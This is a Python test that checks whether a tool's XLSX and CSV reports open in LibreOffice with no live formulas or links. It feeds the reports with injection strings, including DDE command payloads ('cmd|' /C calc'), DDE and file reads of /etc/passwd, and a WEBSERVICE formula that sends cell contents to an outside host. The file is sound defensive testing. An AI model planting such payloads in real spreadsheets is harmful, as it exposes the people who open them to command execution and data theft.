"""The report's tables as an office program opens them: no cell is a formula or a link, every text is what it was.

``python -m tests.faults.office`` (LibreOffice Calc: ``apt-get install --no-install-recommends libreoffice-calc``). A
night over an export full of texts that ask to be run; its XLSX and CSV are opened by LibreOffice without a window and
written as flat XML, whose cells are then read. A file without the guards shows that the check sees formulas and links.
"""

import csv
import json
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path
from tempfile import TemporaryDirectory

from tests.faults.common import NIGHTS, ROOT, night, tell, triage
from tests.faults.kills import BUYER

CALLS = ("1+1", "SUM(A1:A9)", 'HYPERLINK("https://host.example","click")', 'WEBSERVICE("https://host.example/?"&A1)',
         "cmd|' /C calc'!A0", 'DDE("soffice";"/etc/passwd";"A1")', "'file:///etc/passwd'#$Sheet1.A1")  # fmt: skip
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "'=",
    '"=',
    '";=',
    "%0A=",
    "\ufeff=",
    "\u200b=",
)
OTHERS = (
    "https://host.example/x", "mailto:a@host.example", "javascript:alert(1)", "file:///etc/passwd", "#Sheet1.A1",
    "{=1+1}", "of:=1+1", "msoxl:=1+1", "12E3", "00042", "1/2", "3-4", "TRUE", "2026-11-25", "50%", "€ 5", "1,5", "(5)",
    '<a href="https://host.example">x</a>', "<script>1</script>", "two\nlines", "two  blanks", "a\ttab",
    "_x0041_ _x000D_", "=TRUE()", 'quotes " and "" more', "semi;colon, comma|pipe",
    "emoji 👟 and نعل", "\u202egnp.exe\u202c",
    "l\u2028s",
)  # fmt: skip
# The Big List of Naughty Strings, as its README there says; nothing is not a title.
NAUGHTY = json.loads((ROOT / "tests" / "observation" / "naughty_strings" / "blns.json").read_text("utf-8"))
HOSTILE = (*(start + call for start in STARTS for call in CALLS), *OTHERS, *filter(None, NAUGHTY))
_ODF = "urn:oasis:names:tc:opendocument:xmlns:"
_OFFICE, _TABLE, _TEXT = (f"{{{_ODF}{name}:1.0}}" for name in ("office", "table", "text"))
_LOST = re.compile(r"[\x00-\x08\x0b-\x1f\ufffe\uffff]")
_LINK = "{http://www.w3.org/1999/xlink}href"
# Field mark ',', quote mark '"', UTF-8; then whether a quoted field is text ("Quoted field as text" when it is opened
# by hand). Where it is not, what looks like a number or a day becomes one, in every office program.
TYPED_CSV, TEXT_CSV = (f"CSV:44,34,76,1,,0,{as_text}" for as_text in ("false", "true"))


def export(folder: Path) -> Path:
    """Write an export with one listing a hostile text, which stands in its title, seller, address and size."""
    path = folder / "feeds" / NIGHTS[1] / "board.jsonl"
    path.parent.mkdir(parents=True)
    with path.open("w", encoding="utf-8") as stream:
        for number, text in enumerate(HOSTILE):
            row = {"listing id": f"{number:04d}{text}", "title": text, "seller": text, "description": text, "url": text,
                   "price": "20 EUR", "size": f"42 {text}"}  # fmt: skip
            stream.write(json.dumps(row) + "\n")
    return folder / "feeds"


def opened(file: Path, to: Path, filter_: str = "") -> ET.Element:
    """Return a file as LibreOffice sees it."""
    command = ["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{to.absolute()}/profile"]
    command += [*([f"--infilter={filter_}"] if filter_ else []), "--convert-to", "fods", "--outdir", to, file]
    done = subprocess.run(list(map(str, command)), capture_output=True, text=True, timeout=180)
    made = to / f"{file.stem}.fods"
    assert made.exists(), done.stderr
    tree = ET.parse(made).getroot()
    made.unlink()
    return tree


def alive(tree: ET.Element) -> list[str]:
    """Return every formula and every link of a document's cells."""
    every = [one for sheet in tree.iter(f"{_OFFICE}spreadsheet") for one in sheet.iter()]
    return [value for one in every for name in (f"{_TABLE}formula", _LINK) if (value := one.get(name)) is not None]


def cells(tree: ET.Element) -> list[list[str]]:
    """Return the texts of the first sheet, row by row."""
    rows = []
    for row in next(tree.iter(f"{_TABLE}table")).iter(f"{_TABLE}table-row"):
        texts = []
        for cell in row:
            times = int(cell.get(f"{_TABLE}number-columns-repeated", 1))
            paragraphs = [_text(one) for one in cell if one.tag == f"{_TEXT}p"]
            texts += ["\n".join(paragraphs)] * min(times, 100)
        rows.append(texts)
    return [row for row in rows if any(row)]


def _text(paragraph: ET.Element) -> str:
    """Return a paragraph's characters; runs of blanks, tabs and line ends have elements of their own."""
    told = {f"{_TEXT}s": " ", f"{_TEXT}tab": "\t", f"{_TEXT}line-break": "\n"}
    found = paragraph.text or ""
    for one in paragraph:
        found += told[one.tag] * int(one.get(f"{_TEXT}c", 1)) if one.tag in told else _text(one)
        found += one.tail or ""
    return found


TEXTS = ("listing_id", "external_id", "seller", "title", "size_text", "url")


def texts_of(rows: list[list[str]]) -> list[tuple[str, ...]]:
    """Return the texts of strangers in a table below its heading, sorted, as XML can hold them.

    It has no control characters, and a cell in LibreOffice one kind of line end.
    """
    places = [rows[0].index(name) for name in TEXTS]
    every = ([_LOST.sub("", row[at].replace("\r", "\n")) if at < len(row) else "" for at in places] for row in rows[1:])
    return sorted(map(tuple, every))


def faults_of_night(root: Path) -> tuple[list[str], int]:
    """Return what is wrong with the tables of a hostile night, and how many verdicts they hold."""
    done = triage(*night(export(root), root, NIGHTS[1], *BUYER, "--backups", "0"))
    assert done.returncode == 0, done.stderr
    folder = root / "reports" / NIGHTS[1]
    verdicts = json.loads((folder / "verdicts.json").read_text("utf-8"))["verdicts"]
    exact = texts_of([list(TEXTS), *([one[name] or "" for name in TEXTS] for one in verdicts)])
    with (folder / "verdicts.csv").open(encoding="utf-8", newline="") as stream:
        guarded = texts_of(list(csv.reader(stream)))
    found = []
    for name, filter_, wanted in (
        ("verdicts.xlsx", "", exact),
        ("verdicts.csv", TEXT_CSV, guarded),
        ("verdicts.csv", TYPED_CSV, None),
    ):
        tree = opened(folder / name, root, filter_)
        # LibreOffice keeps a true or false of ours (shipping_assumed) as a formula without an argument.
        live = [one for one in alive(tree) if one not in ("of:=TRUE()", "of:=FALSE()")]
        found += [f"{name}: live: {one}" for one in live]
        read = texts_of(cells(tree))
        if len(read) != len(verdicts):
            found.append(f"{name}: {len(read)} rows, {len(verdicts)} wanted")
        found += [
            f"{name}: {got!r} of {want!r}" for got, want in zip(read, wanted or read, strict=False) if got != want
        ]
    return found, len(verdicts)


def seen_alive(root: Path) -> int:
    """Return how many live cells the check sees in the same texts written without a guard."""
    (root / "bare.csv").write_text("\n".join(f'"{one}"' for one in ("=1+1", "+1+1", '=HYPERLINK(""x"")')), "utf-8")
    return len(alive(opened(root / "bare.csv", root, TYPED_CSV)))


def main() -> int:
    """Open the tables of a hostile night; return how many faults were found."""
    with TemporaryDirectory() as name:
        control = seen_alive(Path(name))
        found, verdicts = faults_of_night(Path(name))
    if control < 2:
        found.append(f"the check sees {control} live cells where there are three")
    for one in found[:40]:
        print(one)
    tell("office", 0, texts=len(HOSTILE), verdicts=verdicts, live_without_guard=control, faults=len(found))
    return len(found)


if __name__ == "__main__":
    sys.exit(bool(main()))
